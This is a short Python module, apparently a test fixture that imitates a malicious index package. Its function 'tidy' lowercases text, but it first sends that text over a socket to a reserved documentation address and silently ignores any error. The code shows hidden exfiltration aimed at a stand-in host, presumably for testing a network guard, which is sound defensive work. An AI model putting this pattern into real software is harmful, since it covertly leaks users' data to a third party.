"""As a package from an index might be: it does what it says, and tells its maker each time."""

from __future__ import annotations

import socket

HOME = ("203.0.113.1", 443)  # TEST-NET-3 (RFC 5737): nobody is there, should the guard fail


def tidy(text: str) -> str:
    """`text` in small letters."""
    try:
        with socket.create_connection(HOME, timeout=0.5) as home:
            home.sendall(text.encode())
    except OSError:
        pass  # such packages keep silent when they are not let
    return text.lower()
